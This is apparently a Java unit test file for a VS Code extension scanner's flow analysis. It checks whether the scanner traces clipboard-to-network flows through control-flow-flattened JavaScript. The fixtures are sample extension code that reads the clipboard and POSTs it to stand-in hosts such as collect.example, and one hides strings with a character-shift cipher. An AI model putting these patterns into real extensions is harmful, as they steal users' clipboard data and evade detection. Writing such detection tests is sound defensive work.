package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * Functions whose statements became the cases of a loop. Each program here sends the clipboard, or has a case that would
 * and that no state leads to.
 */
class FlattenedControlFlowTest {

    private static final String SUM =
            "function sum(list) { let s = 0; for (let i = 0; i < list.length; i++) s += list[i]; return s; }\n";

    /** The cases stand against the order in which they run, so that turns over all of them would not do. */
    private static String waysPartIn(String loop, String next) {
        return """
                let text, word, host, method;
                %s
                  case 9: fetch(host, { method, body: word }); %s break;
                  case 8: method = 'POST'; %s break;
                  case 7: host = 'https://collect.example/'; %s break;
                  case 6: word = '[' + text + ']'; %s break;
                  case 5: text = await vscode.env.clipboard.readText(); %s break;
                  case 4: fetch('https://never.example/', { method: 'POST', body: await vscode.env.clipboard.readText() }); %s break;
                  case 2: if (vscode.env.remoteName) { %s break; } else { %s break; }
                  case 1: %s break;
                  case 3: %s break;
                }
                """.formatted(
                        loop,
                        to(next, 0),
                        to(next, 9),
                        to(next, 8),
                        to(next, 7),
                        to(next, 6),
                        to(next, 0),
                        to(next, 3),
                        to(next, 5),
                        to(next, 2),
                        to(next, 5));
    }

    private static String to(String next, int label) {
        return next.formatted(label);
    }

    private static Analysis async(String body) {
        return Analysis.of(
                "const vscode = require('vscode');\n" + SUM + "exports.activate = async () => {\n" + body + "};");
    }

    @Test
    void aStateInAVariableIsFollowedWhereWaysPart() {
        Analysis analysis = async("let next = 1;\n" + waysPartIn("while (next !== 0) switch (next) {", "next = %s;"));

        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
        assertThat(analysis.destinations("clipboard", "network-send")).containsExactly("https://collect.example/");
    }

    @Test
    void aStateOfSeveralNumbersIsFollowedWhereWaysPart() {
        String to = "next[0] = %s - 70, next[1] = 30, next[2] = 40;";
        Analysis analysis = async(
                "const next = [4, 2, -5];\n" + waysPartIn("while (sum(next) !== 0) { switch (sum(next)) {", to) + "}");

        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
        assertThat(analysis.destinations("clipboard", "network-send")).containsExactly("https://collect.example/");
    }

    @Test
    void aStateThatAConditionChoosesLeadsBothWays() {
        Analysis analysis = async("""
                let next = 1, text;
                for (; next !== 9; ) switch (next) {
                  case 3: fetch('https://collect.example/', { method: 'POST', body: text }); next = 9; break;
                  case 2: text = await vscode.env.clipboard.readText(); next = 3; break;
                  case 4: next = 2; break;
                  case 1: next = vscode.env.remoteName ? 4 : 9; break;
                }
                """);

        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
    }

    @Test
    void whatTheUserAnsweredHoldsOnItsWayOnly() {
        String program = """
                let next = 1;
                while (next !== 9) switch (next) {
                  case 5: fetch('https://collect.example/', { method: 'POST', body: await vscode.env.clipboard.readText() }); next = 9; break;
                  case 3: next = 5; break;
                  case 1: if (await vscode.window.showWarningMessage('Send?', 'Yes') === 'Yes') { next = 3; break; } else { next = %s; break; }
                }
                """;

        assertThat(async(program.formatted(9)).guards("clipboard", "network-send"))
                .containsExactly("user-confirmation");
        assertThat(async(program.formatted(5)).guards("clipboard", "network-send"))
                .isEmpty();
    }

    /** As flattening does it: one function is all functions, and each of its names is hidden in the numbers of the state. */
    @Test
    void functionsFlattenedIntoOneAreToldApartByTheirStates() {
        String noise = "5,-3,8,1,".repeat(25);
        String calls = "f.plain('fegw'); f.plain('cpez'); f.plain('ocvj');\n".repeat(60);
        Analysis analysis = Analysis.of("""
                const vscode = require('vscode');
                """ + SUM + """
                function all(state, f, given) {
                  while (sum(state) !== 100) {
                    switch (sum(state)) {
                      case 1: f.plain = (...list) => all([NOISE 2 - 275], f, list); CALLS state[0] += 2; break;
                      case 2: f.at = 0; f.read = ''; state[0] += 3; break;
                      case 5: if (f.at < given[0].length) { state[0] += 1; break; } else { state[0] += 2; break; }
                      case 6: f.read += String.fromCharCode(given[0].charCodeAt(f.at++) - 2); state[0] -= 1; break;
                      case 7: return f.read;
                      case 3: f.take = () => vscode[f.plain('gpx')][f.plain('enkrdqctf')][f.plain('tgcfVgzv')](); state[0] += 5; break;
                      case 8: f.give = text => fetch(f.plain('jvvru<11eqnngev0gzcorng1'), { method: f.plain('RQUV'), body: text }); state[0] += 4; break;
                      case 12: f.take().then(f.give); state[0] += 88; break;
                    }
                  }
                }
                exports.activate = () => all([NOISE 1 - 275], {});
                """.replace("NOISE", noise).replace("CALLS", calls));

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).contains("clipboard -> network-send");
        assertThat(analysis.destinations("clipboard", "network-send")).contains("https://collect.example/");
    }

    @Test
    void whatFollowsTheLoopRuns() {
        Analysis analysis = async("""
                for (const turn of [1]) {
                  let next = 1;
                  while (next !== 9) switch (next) {
                    case 1: if (vscode.env.remoteName) { next = 2; break; } next = 9; break;
                    case 2: next = 9; break;
                  }
                  fetch('https://collect.example/', { method: 'POST', body: await vscode.env.clipboard.readText() });
                }
                """);

        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
    }

    @Test
    void aStateThatCountsIsNotFollowedForEver() {
        Analysis analysis = async("""
                let next = 1;
                while (next !== 0) switch (next) {
                  default: if (vscode.env.remoteName) next++; else next += 2; break;
                }
                fetch('https://collect.example/', { method: 'POST', body: await vscode.env.clipboard.readText() });
                """);

        assertThat(analysis.result().gaps()).isEmpty();
        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
    }
}
